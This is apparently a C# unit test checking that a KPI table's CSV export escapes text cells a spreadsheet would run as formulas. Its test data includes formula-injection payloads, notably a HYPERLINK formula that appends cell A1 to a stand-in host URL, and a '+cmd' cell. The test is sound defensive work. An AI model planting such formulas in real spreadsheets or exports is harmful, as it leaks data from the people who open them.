using System.Text;
using DataHub.Core.Rollup;
using DataHub.Parquet;

namespace DataHub.Kpis.Tests.Rollup;

/// <summary>The CSV twin of a published table: opened in a spreadsheet by the board, so partner text never runs as a formula.</summary>
public sealed class KpiTableCsvTests
{
    [Fact]
    public void A_text_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_numbers_stay_numbers()
    {
        // A team name is the children's social care partner's free text, published as a breakdown value.
        var table = new KpiTable(
            "kpi_values",
            new ParquetSchema([new("breakdown_value", ParquetType.String), new("offset", ParquetType.Int32), new("value", ParquetType.Double), new("rows", ParquetType.Int64)]),
            [
                ["=HYPERLINK(\"http://example.invalid/\"&A1,\"Team\")", -4, -0.5, -7L],
                ["@SUM(1+1)", 0, 1.25, 3L],
                ["+cmd", 1, 0d, 0L],
                ["-2+3", 2, 2d, 1L],
                ["Central", 3, 3d, 2L],
            ]);

        var lines = Encoding.UTF8.GetString(table.ToCsv()).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);

        // A leading = @ + - makes a cell a formula unless a quote mark comes first (the field is then quoted too).
        lines[1].Should().StartWith("\"'=HYPERLINK(").And.EndWith(",-4,-0.5,-7");
        lines[2].Should().Be("\"'@SUM(1+1)\",0,1.25,3");
        lines[3].Should().Be("\"'+cmd\",1,0,0");
        lines[4].Should().Be("\"'-2+3\",2,2,1");
        lines[5].Should().Be("Central,3,3,2");
    }
}
